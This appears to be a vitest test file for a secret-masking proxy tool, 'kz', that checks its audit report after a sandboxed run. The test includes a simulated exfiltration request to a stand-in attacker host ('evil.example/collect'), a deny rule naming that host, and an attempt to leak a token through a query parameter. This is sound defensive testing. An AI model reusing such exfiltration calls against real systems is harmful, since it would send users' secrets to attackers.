// After a blind run: `kz audit` says what the program did, and `--suggest` what its config could say.
import { parse } from 'smol-toml';
import { afterEach, beforeEach, expect, it } from 'vitest';
import { FIXTURES, NODE, Story } from './kz.ts';
import { answerJson, Upstream } from './upstream.ts';

let story: Story;
let upstream: Upstream;

beforeEach(async () => {
  story = new Story();
  upstream = await Upstream.start((request, response) => {
    answerJson(response, { you: request.headers.authorization });
  });
});

afterEach(async () => {
  story.end();
  await upstream.stop();
});

/** Without what differs from run to run, and the width of columns. */
function steady(text: string): string {
  return text
    .replaceAll(story.project, '~')
    .replace(/\b\d\d:\d\d:\d\d\.\d{3}\b/g, 'TIME')
    .replace(/^run [0-9a-f]{8}: (.*), \d{4}-\d\d-\d\d \d\d:\d\d:\d\d,/m, 'run ID: $1, DAY,')
    .replace(/kz_masked_[0-9a-f]{32}/g, 'MASKED')
    .replace(/ {2,}/g, '  ');
}

it('kz audit tells where the secret went, what was refused, and what would change that', async () => {
  upstream.configure(
    story,
    '[secrets]\nTOKEN = { provider = "env", ref = "SOURCE", hosts = ["api.example"] }\n' +
      '[[blind.connections]]\nallow = false\nhost = "evil.example"\n[[blind.connections]]\nallow = true\nhost = "*"\n',
  );
  const urls = [
    'https://api.example/user',
    'https://other.example/login',
    'https://evil.example/collect',
    'https://api.example/search?q=$TOKEN',
  ];
  const requests = urls.map((url) => `${NODE} ${FIXTURES}blind-client.mjs "${url}"`).join('; ');
  const { code } = await story.kz(['run', '--blind', '--', 'sh', '-c', `${requests}; exit 3`], {
    env: { ...upstream.environment, SOURCE: story.canary() },
  });
  expect(code).toBe(3);
  const { stdout, stderr } = await story.kz(['audit']);
  expect(steady(stdout)).toBe(`run ID: sh, DAY, ~/.keyzero.toml
TIME  200  GET  api.example/user  TOKEN in header authorization; TOKEN masked in the answer
TIME  200  GET  other.example/login
  TOKEN not swapped in header authorization: the host is outside its scope; to allow it: hosts = ["api.example", "other.example"]
TIME  blocked  GET  evil.example/collect  by ~/.keyzero.toml:6
  to allow it, add above that rule:
  [[blind.connections]]
  allow = true
  host = "evil.example"
TIME  200  GET  api.example/search?q=MASKED  TOKEN in header authorization; TOKEN masked in the answer
  TOKEN not swapped in query q: not one of its places; to allow it: swap = ["default", "query:q"]

4 exchanges: 3 allowed, 1 blocked
swapped: TOKEN 2 times
not swapped: TOKEN 2 times
ended: exit 3
`);
  expect(stderr).toBe('kz: `kz audit --suggest` prints config to paste\n');

  const suggested = await story.kz(['audit', '--suggest']);
  expect(parse(suggested.stdout)).toEqual({
    secrets: { TOKEN: { hosts: ['api.example'] } },
    blind: {
      connections: [
        { allow: true, host: 'api.example' },
        { allow: true, host: 'other.example' },
        { allow: false, host: '*' },
      ],
    },
  });
});
